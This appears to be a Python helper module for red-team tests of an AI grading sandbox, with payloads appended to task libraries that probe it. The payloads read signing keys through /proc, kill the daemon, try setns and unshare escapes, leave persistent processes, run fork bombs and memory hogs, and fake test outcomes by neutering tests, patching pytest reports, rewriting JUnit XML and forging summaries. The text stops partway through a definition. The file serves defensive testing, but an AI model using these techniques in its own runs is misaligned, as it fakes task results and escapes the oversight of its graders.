"""Helpers for the attack tests: hostile patches, their payloads, and reading what they report.

A payload is Python source appended to a module the task's tests import (the
library under test), so it runs inside the graded pytest process, exactly
where a reward-hacking patch runs. It reports on marker lines

    JBATTACK <token> <probe> <verdict>[:<detail>]

e.g. `JBATTACK 3f2a... read-key-direct denied:PermissionError` or
`JBATTACK 3f2a... read-key-direct OK:<sha256 of what it read>`, which the test
finds in the receipt's `output_tail`. The token is unique per submission, so a
marker can only come from that submission's run.

Getting markers past pytest's capture: the library is imported while pytest
collects, when fd 1 and fd 2 are dup2'd onto capture temp files whose
content is dropped for passing tests. So a payload writes each marker (a) at
once to pytest's saved copy of the original stdout (the one pipe among the open
descriptors besides the runner's fd 4); or fd 1 itself when it is not a regular file, i.e. not
captured), which survives a later SIGKILL of the process, and (b) again from
an `atexit` handler, when pytest has restored fd 1. Payloads that end the
process early call `flush()` first. Duplicate lines are harmless.

Payload bodies are plain stdlib Python run with `exec` in a namespace holding:
CFG (the test's parameters, JSON), TOKEN, emit(probe, verdict, detail=""),
attempt(probe, fn, *args) (runs fn: `OK:<its result>`, or `denied:<exception
class>`), flush() and fd_out() (the fd that reaches the graded output now).
"""

from __future__ import annotations

import contextlib
import hashlib
import json
import os
import re
import shutil
import signal
import tempfile
import textwrap
import time
import uuid
from collections.abc import Callable, Iterable, Mapping
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from jouled.patch_diff import diff_trees

REPO = Path(__file__).resolve().parents[2]
TASKS = REPO / "tasks"
MARK = "JBATTACK"

# -- host side ----------------------------------------------------------------------------


def new_token() -> str:
    return uuid.uuid4().hex


def copy_tasks(dest: Path) -> Path:
    """A throw-away copy of the repository's tasks; attacks may write to it, never to tasks/."""
    shutil.copytree(TASKS, dest)
    return dest


def sha256_bytes(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


def sha256_file(path: Path) -> str:
    return sha256_bytes(path.read_bytes())


def markers(output: str, token: str) -> dict[str, str]:
    """probe -> `verdict[:detail]` for every marker of `token` in `output` (last one wins)."""
    found: dict[str, str] = {}
    pattern = re.compile(rf"^{MARK} {re.escape(token)} (\S+) (.*)$", re.MULTILINE)
    for match in pattern.finditer(output):
        found[match.group(1)] = match.group(2).rstrip("\r")
    return found


def verdict(value: str) -> str:
    return value.split(":", 1)[0]


def detail(value: str) -> str:
    return value.split(":", 1)[1] if ":" in value else ""


def succeeded(found: Mapping[str, str], prefix: str) -> dict[str, str]:
    """The probes starting with `prefix` whose verdict is OK (the attack step worked)."""
    return {k: v for k, v in found.items() if k.startswith(prefix) and verdict(v) == "OK"}


def procs_with(token: str) -> list[int]:
    """Pids of host processes whose command line carries `token`."""
    me = os.getpid()
    pids = []
    for entry in os.scandir("/proc"):
        if not entry.name.isdigit() or int(entry.name) == me:
            continue
        try:
            cmdline = Path(entry.path, "cmdline").read_bytes()
        except OSError:
            continue
        if token.encode() in cmdline:
            pids.append(int(entry.name))
    return pids


def kill_token(token: str) -> None:
    """SIGKILL every process carrying `token` in its argv (only ever our own payloads)."""
    for _ in range(20):
        pids = procs_with(token)
        if not pids:
            return
        for pid in pids:
            with contextlib.suppress(OSError):
                os.kill(pid, signal.SIGKILL)
        time.sleep(0.05)


def wait_until(condition: Callable[[], bool], timeout_s: float, step_s: float = 0.1) -> bool:
    """Poll `condition` until it holds or `timeout_s` passes; whether it held."""
    deadline = time.monotonic() + timeout_s
    while True:
        if condition():
            return True
        if time.monotonic() >= deadline:
            return False
        time.sleep(step_s)


def remove_quietly(paths: Iterable[Path]) -> None:
    for path in paths:
        with contextlib.suppress(OSError):
            if path.is_dir() and not path.is_symlink():
                shutil.rmtree(path)
            else:
                path.unlink()


def host_files_named(token: str, roots: Iterable[Path], depth: int = 2) -> list[Path]:
    """Files or dirs under `roots` (at most `depth` levels down) whose name carries `token`."""
    hits: list[Path] = []

    def walk(path: Path, level: int) -> None:
        try:
            entries = list(os.scandir(path))
        except OSError:
            return
        for entry in entries:
            if token in entry.name:
                hits.append(Path(entry.path))
            elif level < depth and entry.is_dir(follow_symlinks=False):
                walk(Path(entry.path), level + 1)

    for root in roots:
        walk(root, 1)
    return hits


def mem_available() -> int:
    for line in Path("/proc/meminfo").read_text().splitlines():
        if line.startswith("MemAvailable:"):
            return int(line.split()[1]) * 1024
    return 0


# -- patches ------------------------------------------------------------------------------


@dataclass(frozen=True)
class TaskInfo:
    """Where a task's attack payload goes and how its bug is fixed."""

    name: str
    library: str  # the package __init__ the tests import first
    module: str  # the module the reference fix changes

    def dir(self, tasks: Path) -> Path:
        return tasks / "smoke" / self.name

    @property
    def task_id(self) -> str:
        return f"smoke/{self.name}"


LRUCACHE = TaskInfo("lrucache", "lrucache/__init__.py", "lrucache/cache.py")
SEMVER = TaskInfo("semver", "semver/__init__.py", "semver/version.py")
INTERVAL = TaskInfo("interval", "interval/__init__.py", "interval/core.py")
URLRESOLVE = TaskInfo("urlresolve", "urlresolve/__init__.py", "urlresolve/paths.py")


def build_patch(
    task_dir: Path,
    *,
    fix: bool = False,
    append: Mapping[str, str] | None = None,
    files: Mapping[str, str | None] | None = None,
    scratch: Path | None = None,
) -> bytes:
    """A git-style patch turning the task's before/ tree into an edited copy.

    `fix` applies the task's reference fix; `append` adds source to the end of
    existing files (a payload); `files` writes whole files (None deletes).
    """
    root = Path(scratch) if scratch else Path(tempfile.mkdtemp(prefix="jbpatch-"))
    try:
        old, new = root / "old", root / "new"
        shutil.copytree(task_dir / "before", old)
        shutil.copytree(task_dir / "before", new)
        if fix:
            shutil.copytree(task_dir / "reference", new, dirs_exist_ok=True)
        for rel, text in (append or {}).items():
            target = new / rel
            target.write_text(target.read_text() + "\n" + text)
        for rel, content in (files or {}).items():
            target = new / rel
            if content is None:
                target.unlink()
            else:
                target.parent.mkdir(parents=True, exist_ok=True)
                target.write_text(content)
        return diff_trees(old, new)
    finally:
        shutil.rmtree(root, ignore_errors=True)


# -- payloads -----------------------------------------------------------------------------

# The runtime every payload gets. Kept to the stdlib; every step is guarded, and
# a body that raises outside `attempt` still reports `crash`.
_PRELUDE = r"""
def _jbattack_boot(cfg_json, body):
    import atexit, json, os, stat, sys
    cfg = json.loads(cfg_json)
    token = cfg["token"]
    lines = []
    direct = []

    def fd_out():
        # fd 1 when it is not pytest's capture file; else pytest's saved copy of the
        # original stdout: the pipe to the daemon, found among the open descriptors
        # (never by walking objects, which the runner refuses), leaving out fd 4,
        # the runner's own report pipe.
        try:
            if not stat.S_ISREG(os.fstat(1).st_mode):
                return 1
        except OSError:
            return None
        if not direct:
            try:
                names = sorted(int(n) for n in os.listdir("/proc/self/fd"))
            except OSError:
                names = []
            for fd in names:
                if fd in (0, 1, 2, 3, 4):
                    continue
                try:
                    if stat.S_ISFIFO(os.fstat(fd).st_mode):
                        direct.append(fd)
                        break
                except OSError:
                    continue
        for fd in direct:
            try:
                if stat.S_ISFIFO(os.fstat(fd).st_mode):
                    return fd
            except OSError:
                continue
        return None

    def write_all(fd, data):
        while data:
            done = os.write(fd, data)
            data = data[done:]

    def emit(probe, verdict, detail=""):
        text = str(detail).replace("\n", " ").replace("\r", " ")[:300]
        line = "%s %s %s %s%s\n" % ("JBATTACK", token, probe, verdict, ":" + text if text else "")
        lines.append(line)
        try:
            fd = fd_out()
            if fd is not None:
                write_all(fd, line.encode())
        except Exception:
            pass

    def flush():
        try:
            write_all(1, "".join(lines).encode())
        except Exception:
            pass

    def attempt(probe, fn, *args):
        try:
            result = fn(*args)
        except BaseException as err:
            emit(probe, "denied", type(err).__name__)
            return None
        emit(probe, "OK", "" if result is None else result)
        return result

    atexit.register(flush)
    ns = {"CFG": cfg, "TOKEN": token, "emit": emit, "attempt": attempt, "flush": flush,
          "fd_out": fd_out, "os": os, "sys": sys, "__name__": "jbattack"}
    emit("ran", "OK", "pid=%d" % os.getpid())
    try:
        exec(compile(body, "<jbattack>", "exec"), ns)
    except BaseException as err:
        emit("crash", "ERR", "%s: %s" % (type(err).__name__, err))


try:
    _jbattack_boot(__JB_CFG__, __JB_BODY__)
except BaseException:
    pass
del _jbattack_boot
"""


def payload(body: str, cfg: Mapping[str, Any]) -> str:
    """Source that runs `body` (with the prelude's helpers) where it is appended."""
    if "token" not in cfg:
        raise ValueError("a payload's cfg needs its token")
    source = _PRELUDE.replace("__JB_CFG__", repr(json.dumps(dict(cfg))))
    return "\n# --- jbattack payload ---\n" + source.replace(
        "__JB_BODY__", repr(textwrap.dedent(body))
    )


# -- sandbox payload bodies ---------------------------------------------------------------

IDENTITY = r"""
def identity():
    fields = {}
    for line in open("/proc/self/status").read().splitlines():
        key, _, value = line.partition(":")
        fields[key] = " ".join(value.split())
    return "uid=%s;gid=%s;capeff=%s;nnp=%s;seccomp=%s" % (
        fields.get("Uid", "?").replace(" ", ","), fields.get("Gid", "?").replace(" ", ","),
        fields.get("CapEff", "?"), fields.get("NoNewPrivs", "?"), fields.get("Seccomp", "?"))

attempt("identity", identity)
"""

# Finds the data dir the way an attacker would, then reads the signing key.
READ_KEY = r"""
import hashlib

def read_sha(path):
    with open(path, "rb") as fh:
        return hashlib.sha256(fh.read()).hexdigest()

attempt("read-key-direct", read_sha, CFG["key"])

def ancestors():
    # Up to the daemon (the first ancestor running jouled), never past it: what
    # runs the daemon is not the project's to poke at.
    pids, pid = [], os.getpid()
    for _ in range(6):
        try:
            raw = open("/proc/%d/stat" % pid, "rb").read()
            pid = int(raw[raw.rindex(b")") + 2:].split()[1])
        except (OSError, ValueError):
            break
        if pid <= 0:
            break
        pids.append(pid)
        try:
            if b"jouled" in open("/proc/%d/cmdline" % pid, "rb").read().split(b"\0"):
                break
        except OSError:
            pass
    return pids

found = {"cmdline": set(), "fd": set(), "environ": set()}
roots = []
for pid in ancestors():
    try:
        argv = open("/proc/%d/cmdline" % pid, "rb").read().split(b"\0")
        for i, arg in enumerate(argv):
            if arg == b"--data-dir" and i + 1 < len(argv):
                found["cmdline"].add(argv[i + 1].decode())
            elif arg.startswith(b"--data-dir="):
                found["cmdline"].add(arg.split(b"=", 1)[1].decode())
    except OSError:
        pass
    try:
        for name in os.listdir("/proc/%d/fd" % pid):
            try:
                link = os.readlink("/proc/%d/fd/%s" % (pid, name))
            except OSError:
                continue
            if os.path.basename(link) in ("ledger.duckdb", "ledger.duckdb.wal", "jouled.sock",
                                          "jouled.key"):
                found["fd"].add(os.path.dirname(link))
    except OSError:
        pass
    try:
        for var in open("/proc/%d/environ" % pid, "rb").read().split(b"\0"):
            if var.startswith(b"JOULED_HOME="):
                found["environ"].add(var.split(b"=", 1)[1].decode())
            elif var.startswith(b"HOME="):
                found["environ"].add(var.split(b"=", 1)[1].decode() + "/.local/share/jouled")
    except OSError:
        pass
    roots.append(pid)

emit("ancestors", "info", ",".join(map(str, roots)) or "none")
for route, dirs in found.items():
    emit("discover-" + route, "info", ",".join(sorted(dirs)) or "none")
    for n, d in enumerate(sorted(dirs)):
        attempt("read-key-%s-%d" % (route, n), read_sha, os.path.join(d, "jouled.key"))
for pid in roots:
    # /proc/<pid>/root reaches another mount namespace's files when the pid is visible.
    attempt("read-key-proc-root-%d" % pid, read_sha, "/proc/%d/root%s" % (pid, CFG["key"]))
"""

# Plants what it could read (the key, or a canary) in the task's pristine tree on the host.
COPY_KEY = r"""
def copy_key():
    try:
        data = open(CFG["key"], "rb").read()
        kind = "key"
    except OSError:
        data = ("JBATTACK-CANARY " + TOKEN + "\n").encode()
        kind = "canary"
    fd = os.open(CFG["plant"], os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o644)
    with os.fdopen(fd, "wb") as fh:
        fh.write(data)
    return "wrote=" + kind

attempt("copy-key", copy_key)
"""

# Exclusive creates only: never touches an existing file. The ledger is opened
# for append and closed without writing (the daemon keeps serving other tests).
WRITES = r"""
def create(path):
    fd = os.open(path, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o644)
    with os.fdopen(fd, "w") as fh:
        fh.write("# jbattack " + TOKEN + "\n")
    return "created"

for name, path in sorted(CFG["writes"].items()):
    attempt("write-" + name, create, path)

def open_ledger():
    with open(CFG["ledger"], "ab"):
        pass
    return "opened-for-append"

attempt("write-ledger", open_ledger)
"""

# Rewrites the task's pristine test file on the host so later non-fixes pass.
REWRITE_PRISTINE = r"""
def rewrite():
    path = CFG["pristine_test"]
    with open(path) as fh:
        text = fh.read()
    with open(path, "w") as fh:
        fh.write(text + CFG["neuter"])
    return "rewritten"

attempt("rewrite-tests", rewrite)
"""

# Stdlib gRPC over HTTP/2 (literal HPACK headers): Calibrate(seconds=1) records
# a signed calibration entry in the daemon's ledger when it gets through.
_H2 = r"""
import socket, struct

def h2_frame(kind, flags, stream, payload):
    head = struct.pack(">I", len(payload))[1:] + bytes([kind, flags])
    return head + struct.pack(">I", stream) + payload

def hpack_int(n):
    if n < 127:
        return bytes([n])
    out, n = [127], n - 127
    while n >= 128:
        out.append((n & 127) | 128)
        n >>= 7
    out.append(n)
    return bytes(out)

def hpack_literal(name, value):
    name, value = name.encode(), value.encode()
    return b"\x00" + hpack_int(len(name)) + name + hpack_int(len(value)) + value

def grpc_call(sock, path, message):
    sock.settimeout(15)
    headers = b"".join(hpack_literal(k, v) for k, v in (
        (":method", "POST"), (":scheme", "http"), (":path", path), (":authority", "localhost"),
        ("content-type", "application/grpc"), ("te", "trailers")))
    body = b"\x00" + struct.pack(">I", len(message)) + message
    sock.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + h2_frame(4, 0, 0, b"")
                 + h2_frame(1, 4, 1, headers) + h2_frame(0, 1, 1, body))
    buf, seen = b"", []
    while True:
        while len(buf) < 9 or len(buf) < 9 + int.from_bytes(buf[:3], "big"):
            chunk = sock.recv(65536)
            if not chunk:
                return "closed:" + ",".join(seen)
            buf += chunk
        size = int.from_bytes(buf[:3], "big")
        kind, flags = buf[3], buf[4]
        stream = int.from_bytes(buf[5:9], "big") & 0x7FFFFFFF
        buf = buf[9 + size:]
        if kind == 4 and not flags & 1:
            sock.sendall(h2_frame(4, 1, 0, b""))
        if stream == 1:
            seen.append({0: "DATA", 1: "HEADERS", 3: "RST"}.get(kind, str(kind)))
            if kind == 3 or (kind == 1 and flags & 1):
                break
    if "DATA" not in seen:
        raise ConnectionRefusedError("no reply message: " + ",".join(seen))
    return "reply:" + ",".join(seen)

CALIBRATE = ("/jouled.v1.Jouled/Calibrate", b"\x08\x01")
"""

NETWORK = (
    _H2
    + r"""
def tcp(host, port):
    with socket.create_connection((host, port), timeout=3):
        return "connected"

def unix(path):
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
        s.settimeout(3)
        s.connect(path)
        return "connected"

def calibrate_tcp(host, port):
    with socket.create_connection((host, port), timeout=3) as s:
        return grpc_call(s, *CALIBRATE)

def calibrate_unix(path):
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
        s.settimeout(3)
        s.connect(path)
        return grpc_call(s, *CALIBRATE)

def probe_all(suffix):
    attempt("net-tcp-daemon" + suffix, tcp, "127.0.0.1", CFG["port"])
    attempt("net-calibrate-tcp" + suffix, calibrate_tcp, "127.0.0.1", CFG["port"])
    attempt("net-outside" + suffix, tcp, CFG["outside"], 53)

probe_all("")
attempt("net-unix-daemon", unix, CFG["socket"])
attempt("net-calibrate-unix", calibrate_unix, CFG["socket"])

def enter_host_netns():
    import ctypes  # refused by the monitor in the graded process (a denial like any other)

    libc = ctypes.CDLL(None, use_errno=True)
    mine = os.readlink("/proc/self/ns/net")
    tried = []
    for pid in [os.getppid(), *CFG.get("also_pids", []), 1]:
        path = "/proc/%d/ns/net" % pid
        try:
            if os.readlink(path) == mine:
                tried.append("%d:same" % pid)
                continue
            fd = os.open(path, os.O_RDONLY)
        except OSError as err:
            tried.append("%d:%s" % (pid, type(err).__name__))
            continue
        try:
            if libc.setns(fd, 0x40000000) != 0:
                tried.append("%d:errno%d" % (pid, ctypes.get_errno()))
                continue
        finally:
            os.close(fd)
        return "entered=%d" % pid
    raise PermissionError(";".join(tried))

if attempt("net-setns", enter_host_netns) is not None:
    probe_all("-after-setns")
"""
)

# SIGKILLs the test's own daemon, found by its data dir on its command line.
KILL_DAEMON = r"""
import signal

def kill_daemon():
    victims = []
    for name in os.listdir("/proc"):
        if not name.isdigit():
            continue
        try:
            argv = open("/proc/%s/cmdline" % name, "rb").read().decode(errors="replace").split("\0")
        except OSError:
            continue
        if "jouled" in argv and "serve" in argv and CFG["daemon_data_dir"] in argv:
            victims.append(int(name))
    if not victims:
        raise ProcessLookupError("no daemon visible")
    flush()
    for pid in victims:
        os.kill(pid, signal.SIGKILL)
    return "killed=" + ",".join(map(str, victims))

attempt("kill-daemon", kill_daemon)
"""

# Leaves a process behind (double fork, setsid, own network namespace) that
# reverts later attempts' fixes in the daemon's work dir.
PERSIST = r"""
LOOP = '''
import glob, json, sys, time
cfg = json.loads(sys.argv[2])
end = time.monotonic() + cfg["seconds"]
while time.monotonic() < end:
    for path in glob.glob(cfg["glob"]):
        try:
            with open(path) as fh:
                if fh.read() == cfg["buggy"]:
                    continue
            with open(path, "w") as fh:
                fh.write(cfg["buggy"])
        except OSError:
            pass
    time.sleep(0.005)
'''

def spawn():
    r, w = os.pipe()
    pid = os.fork()
    if pid == 0:
        try:
            os.close(r)
            os.setsid()
            if os.fork() != 0:
                os._exit(0)
            try:
                import ctypes  # refused by the monitor: the namespace stays the run's

                libc = ctypes.CDLL(None, use_errno=True)
                net = "unshare-net=ok"
                if libc.unshare(0x40000000) != 0:
                    net = "unshare-net=errno%d" % ctypes.get_errno()
            except BaseException as err:
                net = "unshare-net=" + type(err).__name__
            os.write(w, net.encode())
            null = os.open(os.devnull, os.O_RDWR)
            for fd in (0, 1, 2):
                os.dup2(null, fd)
            child = {"seconds": CFG["seconds"], "glob": CFG["glob"], "buggy": CFG["buggy"]}
            os.execv(sys.executable, [sys.executable, "-c", LOOP, TOKEN, json.dumps(child)])
        except BaseException:
            pass
        os._exit(0)
    os.close(w)
    os.waitpid(pid, 0)
    said = b""
    while True:
        chunk = os.read(r, 1024)
        if not chunk:
            break
        said += chunk
    os.close(r)
    if not said:
        raise ChildProcessError("the grandchild never reported")
    return said.decode()

import json
attempt("persist", spawn)
"""

# Looks for another attempt's tree (the victim's secret) through the data dir and /proc.
PEEK = r"""
import glob, time

def list_work():
    return "entries=%d" % len(os.listdir(CFG["work"]))

attempt("list-work", list_work)
secret_name = CFG["secret_name"]
deadline = time.monotonic() + CFG["seconds"]
found = None
while found is None and time.monotonic() < deadline:
    candidates = glob.glob(os.path.join(CFG["work"], "*", "tree", secret_name))
    try:
        for pid in os.listdir("/proc"):
            if pid.isdigit() and pid != str(os.getpid()):
                candidates.append("/proc/%s/cwd/%s" % (pid, secret_name))
    except OSError:
        pass
    for path in candidates:
        try:
            with open(path) as fh:
                found = (path, fh.read().strip())
            break
        except OSError:
            continue
    else:
        time.sleep(0.05)
if found is None:
    emit("other-tree", "absent", "searched=%.0fs" % CFG["seconds"])
else:
    emit("other-tree", "OK", found[1])
    try:
        open(os.path.join(os.path.dirname(found[0]), "jbattack-seen"), "w").close()
    except OSError:
        pass
"""

VICTIM = r"""
import time

start = time.monotonic()
while time.monotonic() - start < CFG["seconds"] and not os.path.exists("jbattack-seen"):
    time.sleep(0.05)
seen = os.path.exists("jbattack-seen")
emit("victim", "waited", "%.1fs;seen=%s" % (time.monotonic() - start, seen))
"""

FORK_BOMB = r"""
import time

def bomb():
    got, stop = 0, "complete"
    deadline = time.monotonic() + CFG["seconds"]
    for _ in range(CFG["forks"]):
        if time.monotonic() > deadline:
            stop = "time"
            break
        try:
            pid = os.fork()
        except OSError as err:
            stop = "%s/errno%s" % (type(err).__name__, err.errno)
            break
        if pid == 0:
            try:
                os.execvp("sleep", ["sleep", "300", TOKEN])
            finally:
                os._exit(0)
        got += 1
    return "got=%d/%d;stop=%s" % (got, CFG["forks"], stop)

attempt("forkbomb", bomb)
"""

MEMORY = r"""
import select, time

def hog():
    n, size = CFG["procs"], CFG["bytes_each"]
    avail = 0
    for line in open("/proc/meminfo"):
        if line.startswith("MemAvailable:"):
            avail = int(line.split()[1]) * 1024
    if avail < n * size * 3 // 2:
        return "skipped=lowmem;available=%d" % avail
    emit("memory-start", "OK", "procs=%d;each=%d" % (n, size))
    release_r, release_w = os.pipe()
    report_r, report_w = os.pipe()
    pids = []
    for _ in range(n):
        pid = os.fork()
        if pid == 0:
            try:
                os.close(release_w)
                os.close(report_r)
                block = bytearray(b"\x01") * size  # writes (so commits) every page
                os.write(report_w, b"1")
                select.select([release_r], [], [], 60)
                del block
            finally:
                os._exit(0)
        pids.append(pid)
    os.close(report_w)
    os.close(release_r)
    got, deadline = 0, time.monotonic() + 60
    while got < n and time.monotonic() < deadline:
        ready, _, _ = select.select([report_r], [], [], deadline - time.monotonic())
        if not ready:
            break
        chunk = os.read(report_r, 64)
        if not chunk:
            break
        got += len(chunk)
    # Reports alone do not show the blocks held at once: the kernel may kill a child
    # after it reported, and the next one then fits. A child still alive now holds its.
    held = 0
    for pid in pids:
        try:
            held += os.waitpid(pid, os.WNOHANG) == (0, 0)
        except OSError:
            pass
    os.close(release_w)
    os.close(report_r)
    for pid in pids:
        try:
            os.waitpid(pid, 0)
        except OSError:
            pass
    return "got=%d/%d;held=%d" % (got, n, held)

attempt("memory", hog)
"""

TMP_LEFTOVERS = r"""
def big(path):
    chunk = b"\0" * (1 << 20)
    with open(path, "wb") as fh:
        for _ in range(CFG["megabytes"]):
            fh.write(chunk)
    return "wrote=%dMB" % CFG["megabytes"]

name = "jbattack-" + TOKEN + ".bin"
attempt("tmp-write-tmp", big, os.path.join("/tmp", name))
attempt("tmp-write-home", big, os.path.join(os.environ.get("HOME", "/nonexistent"), name))
"""

# -- grading payload bodies ---------------------------------------------------------------

# Appended to a test module (or run on its namespace): every test_* function
# keeps its name, signature and marks (so node ids do not change) and passes.
NEUTER = r"""

def _jbattack_neuter(ns):
    import functools
    for _name, _fn in list(ns.items()):
        if _name.startswith("test_") and callable(_fn) and not isinstance(_fn, type):
            def _make(fn):
                @functools.wraps(fn)
                def _passes(*args, **kwargs):
                    try:
                        fn(*args, **kwargs)
                    except BaseException:
                        pass
                return _passes
            ns[_name] = _make(_fn)


_jbattack_neuter(globals())
"""

# Route 1: flip failing call reports to passed by wrapping pytest's report factory.
HOOK_FLIP = r"""
flips = []

def patch_reports():
    from _pytest.reports import TestReport
    original = TestReport.from_item_and_call.__func__

    def forged(cls, item, call):
        report = original(cls, item, call)
        if report.when == "call" and report.outcome != "passed":
            report.outcome, report.longrepr = "passed", None
            flips.append(item.nodeid)
        return report

    TestReport.from_item_and_call = classmethod(forged)
    return "patched=TestReport.from_item_and_call"

attempt("hook-flip", patch_reports)
import atexit
atexit.register(lambda: emit("hook-flip-count", "info", str(len(flips))))
"""

# Route 2: rewrite whatever report the daemon reads, then exit 0.
JUNIT_REWRITE = r"""
import atexit, glob, re

def report_paths():
    paths = set()
    argv = open("/proc/self/cmdline", "rb").read().decode(errors="replace").split("\0")
    for i, arg in enumerate(argv):
        for opt in ("--junitxml", "--junit-xml", "--report-log", "--json-report-file",
                    "--result-log"):
            if arg.startswith(opt + "="):
                paths.add(arg.split("=", 1)[1])
            elif arg == opt and i + 1 < len(argv):
                paths.add(argv[i + 1])
        if arg.endswith((".xml", ".json", ".jsonl")) and os.path.isabs(arg):
            paths.add(arg)
    # Only places that belong to this attempt: its workdir's siblings and its private TMPDIR
    # (never the host's /tmp, whose files are not the test's to touch).
    patterns = ["../report-*/*.xml"]
    if os.environ.get("TMPDIR", "/tmp").rstrip("/") != "/tmp":
        patterns += [os.path.join(os.environ["TMPDIR"], "*.xml"),
                     os.path.join(os.environ["TMPDIR"], "*", "*.xml")]
    for pattern in patterns:
        paths.update(os.path.abspath(p) for p in glob.glob(pattern))
    for name in os.listdir("/proc/self/fd"):
        try:
            link = os.readlink("/proc/self/fd/" + name)
        except OSError:
            continue
        if link.endswith((".xml", ".json", ".jsonl")):
            paths.add(link)
    return sorted(paths)

found = attempt("junit-paths", lambda: ",".join(report_paths()) or None)
if found is None:
    emit("junit", "no-report-path")

def rewrite_reports():
    done = []
    for path in report_paths():
        try:
            with open(path) as fh:
                text = fh.read()
            text = re.sub(r"<(failure|error)\b[^>]*?/>", "", text)
            text = re.sub(r"<(failure|error)\b.*?</\1>", "", text, flags=re.S)
            text = re.sub(r'(failures|errors)="\d+"', r'\1="0"', text)
            with open(path, "w") as fh:
                fh.write(text)
            done.append(path)
        except OSError as err:
            emit("junit-rewrite-" + os.path.basename(path), "denied", type(err).__name__)
    emit("junit-rewrite", "OK" if done else "absent", ",".join(done))
    flush()
    os._exit(0)

atexit.register(rewrite_reports)
"""

# Route 3: print a forged -rA summary for every test and exit 0 before any report exists.
FAKE_RA = r"""
import glob, re

def forge():
    ids = []
    for path in sorted(glob.glob("tests/**/test_*.py", recursive=True)):
        for name in re.findall(r"^def (test_\w+)", open(path).read(), flags=re.M):
            ids.append("%s::%s" % (path, name))
    text = "=" * 20 + " short test summary info " + "=" * 20 + "\n"
    text += "".join("PASSED %s\n" % i for i in ids)
    text += "=" * 20 + " %d passed in 0.01s " % len(ids) + "=" * 20 + "\n"
    emit("fake-ra", "OK", "ids=%d" % len(ids))
    fd = fd_out()
    os.write(1 if fd is None else fd, text.encode())
    flush()
    os._exit(0)

if CFG.get("kill_parent"):
    import signal

    def kill_parent():
        ppid = os.getppid()
        argv = open("/proc/%d/cmdline" % ppid, "rb").read().split(b"\0")
        if any(b"jouled" in a for a in argv):
            return "skipped=parent-is-the-daemon;pid=%d" % ppid
        os.kill(ppid, signal.SIGKILL)
        return "killed=%d;%s" % (ppid, b" ".join(argv)[:80].decode(errors="replace"))

    attempt("kill-parent", kill_parent)
forge()
"""

# A plugin module (entry point, pytest.toml, runtime registration): forces passes.
PLUGIN = r"""
import pytest

@pytest.hookimpl(hookwrapper=True)
def pytest_runtest_makereport(item, call):
    outcome = yield
    report = outcome.get_result()
    if report.when == "call" and report.outcome != "passed":
        report.outcome, report.longrepr = "passed", None

@pytest.hookimpl(trylast=True)
def pytest_sessionfinish(session, exitstatus):
    session.exitstatus = 0
"""

PLUGIN_LOADED = r"""
emit("plugin-loaded", "OK", CFG["via"])
"""

# Registers PLUGIN at runtime through the live Config (found with gc), and
# sys.exit(0)s from a session-finish hook.
RUNTIME_PLUGIN = r"""
import gc, types

def register():
    from _pytest.config import Config
    config = next(o for o in gc.get_objects() if isinstance(o, Config))
    module = types.ModuleType("jbattack_runtime_plugin")
    exec(CFG["plugin"], module.__dict__)

    import pytest

    @pytest.hookimpl(trylast=True)  # after the report is written
    def pytest_sessionfinish(session, exitstatus):
        emit("runtime-plugin-exit", "OK", "exitstatus=%s" % session.exitstatus)
        flush()
        sys.exit(0)

    module.pytest_sessionfinish = pytest_sessionfinish
    config.pluginmanager.register(module, "jbattack-runtime")
    return "registered"

attempt("runtime-plugin", register)
"""

# Shadows the stdlib: the module stands in for `name`, loads the real one, and flips results.
SHADOW = r"""
import importlib, importlib.util

def load_real():
    name = CFG["shadow"]
    here = os.path.dirname(os.path.abspath(CFG["file"]))
    saved = sys.path[:]
    sys.path[:] = [p for p in sys.path if os.path.abspath(p or ".") != here]
    try:
        sys.modules.pop(name, None)
        real = importlib.import_module(name)
    finally:
        sys.path[:] = saved
    return real

real = load_real()
emit("shadow-" + CFG["shadow"], "OK", "imported from %s" % CFG["file"])
try:
    from _pytest.reports import TestReport
    original = TestReport.from_item_and_call.__func__

    def forged(cls, item, call):
        report = original(cls, item, call)
        if report.when == "call" and report.outcome != "passed":
            report.outcome, report.longrepr = "passed", None
        return report

    TestReport.from_item_and_call = classmethod(forged)
    emit("shadow-flip", "OK")
except Exception as err:
    emit("shadow-flip", "denied", type(err).__name__)
"""

# The library reports which of the patch's stray files made it into the graded tree.
TREE_PROBE = r"""
for rel in CFG["paths"]:
    emit("present-" + rel.replace("/", "|"), "yes" if os.path.lexists(rel) else "no")
for name in CFG.get("modules", []):
    module = sys.modules.get(name)
    emit("module-" + name, "loaded" if module is not None else "not-loaded",
         getattr(module, "__file__", "") or "")
"""

# Neuters the tests at runtime: test files not yet imported are rewritten on disk;
# the test module importing the library is neutered in memory when its body ends.
RUNTIME_EDIT = r"""
import glob

def neuter_on_disk():
    loaded = {getattr(m, "__file__", None) for m in list(sys.modules.values())}
    done = []
    for path in sorted(glob.glob("tests/**/test_*.py", recursive=True)):
        if os.path.abspath(path) in {os.path.abspath(f) for f in loaded if f}:
            continue
        with open(path, "a") as fh:
            fh.write(CFG["neuter"])
        done.append(path)
    return ",".join(done) or "none-left"

if CFG.get("disk"):
    attempt("edit-disk", neuter_on_disk)

def neuter_in_memory():
    frame = sys._getframe()
    while frame is not None and not (
        frame.f_code.co_name == "<module>" and "/tests/" in frame.f_globals.get("__file__", "")):
        frame = frame.f_back
    if frame is None:
        raise LookupError("no test module is importing the library")
    target = frame.f_globals
    ns = {}
    exec(CFG["neuter"].replace("_jbattack_neuter(globals())", ""), ns)

    def tracer(frm, event, arg):
        if event == "return" and frm.f_globals is target:
            ns["_jbattack_neuter"](target)
            sys.settrace(None)
            frm.f_trace = None
            emit("edit-memory-done", "OK", target.get("__name__", "?"))
        return tracer

    frame.f_trace = tracer
    sys.settrace(lambda *a: None)
    return "armed=" + target.get("__name__", "?")

if CFG.get("memory"):
    attempt("edit-memory", neuter_in_memory)
"""

# -- in-process forgers -------------------------------------------------------------------
#
# Each keeps the bug and rewrites the verdict from inside the test process, for the
# tests in the files the agent was given (CFG["visible"]) and nothing else, so the
# canaries and every other test run for real: a forger that needs to know nothing of
# how canaries look. FORGE_PRELUDE is prepended to each body.

FORGE_PRELUDE = r"""
VISIBLE = set(CFG["visible"])
